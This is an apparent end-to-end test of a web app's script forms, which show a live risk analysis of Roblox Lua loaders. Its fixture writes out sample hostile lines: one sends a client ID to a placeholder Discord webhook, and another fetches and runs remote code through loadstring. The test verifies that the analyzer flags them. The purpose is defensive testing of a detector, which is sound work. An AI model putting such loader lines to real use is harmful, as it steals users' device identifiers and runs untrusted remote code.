import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { expectNoSeriousViolations } from './harness.ts';
import { moderatorAccount } from './staff.ts';
import { e2eSuite } from './suite.ts';

/**
 * Both panels' script forms show what a loader does while it is typed (issue 15,
 * docs/decisions/0018-loader-analysis.md#loader-findings): the same analysis the server runs, worst finding first, in the
 * panel's language, with the hosts it fetches from. The loaders are harmless samples.
 */

const WEBHOOK_LOADER = [
  'local hwid = game:GetService("RbxAnalyticsService"):GetClientId()',
  'request({ Url = "https://discord.com/api/webhooks/1/demo", Method = "POST", Body = hwid })',
  'loadstring(game:HttpGet("https://raw.githubusercontent.com/demo/hub/main.lua"))()',
].join('\n');

describe('the script form\'s live loader analysis in a real browser', () => {
  const suite = e2eSuite({ admin: true });

  async function openForm(path: string, tokens: { admin?: string; moderator?: string }, heading: string, button: string, title: string): Promise<Page> {
    const page = await suite.visit(path, { tokens });
    await page.getByRole('heading', { level: 1, name: heading }).waitFor();
    await page.getByRole('button', { name: button }).first().click();
    await page.getByRole('dialog').getByRole('heading', { name: title }).waitFor();
    return page;
  }

  const findings = (page: Page, heading: string) => page.getByRole('dialog').getByRole('region', { name: heading });

  it('lists a webhook loader\'s findings worst first in the admin\'s form, and follows each change of the loader', async () => {
    const page = await openForm('/admin/dashboard/scripts', { admin: suite.adminToken }, 'Manage Scripts', 'New Script', 'Create New Script');
    const loader = page.getByRole('dialog').getByLabel('Loadstring');
    // Nothing typed, nothing shown.
    expect(await findings(page, 'What this loader does').count()).toBe(0);
    await loader.fill(WEBHOOK_LOADER);
    const section = findings(page, 'What this loader does');
    await expect.poll(() => section.getByRole('listitem').allTextContents()).toEqual([
      'High risk: Sends data to a Discord or Guilded webhook: a common way to steal account details.',
      'High risk: Reads an ID of your device or Roblox client that can identify you.',
      'Caution: Downloads more code and runs it: what runs is whatever that address serves.',
    ]);
    await expect(section.getByText('Fetches from').textContent()).resolves.toContain('discord.com, raw.githubusercontent.com');
    await expectNoSeriousViolations(page, 'script form with findings');
    // A loader with nothing on the lists says so; the same words in a comment change nothing.
    await loader.fill('-- request({ Url = "https://discord.com/api/webhooks/1/demo" })\nprint("hello")');
    await section.getByText('Nothing risky found in this loader.').waitFor();
    expect(await section.getByRole('listitem').count()).toBe(0);
  });

  it('speaks Russian in the moderator\'s form', async () => {
    const { token } = await moderatorAccount(suite, suite.adminToken, 'findings_mod');
    const page = await openForm('/moderator/dashboard', { moderator: token }, 'Скрипты', 'Добавить скрипт', 'Новый скрипт');
    await page.getByRole('dialog').getByLabel('Loadstring').fill('setclipboard("key")\nwritefile("hub.txt", "x")');
    const section = findings(page, 'Что делает этот загрузчик');
    await expect.poll(() => section.getByRole('listitem').allTextContents()).toEqual([
      'Осторожно: Копирует текст в ваш буфер обмена.',
      'Осторожно: Записывает или удаляет файлы в папке вашего экзекьютора.',
    ]);
  });
});
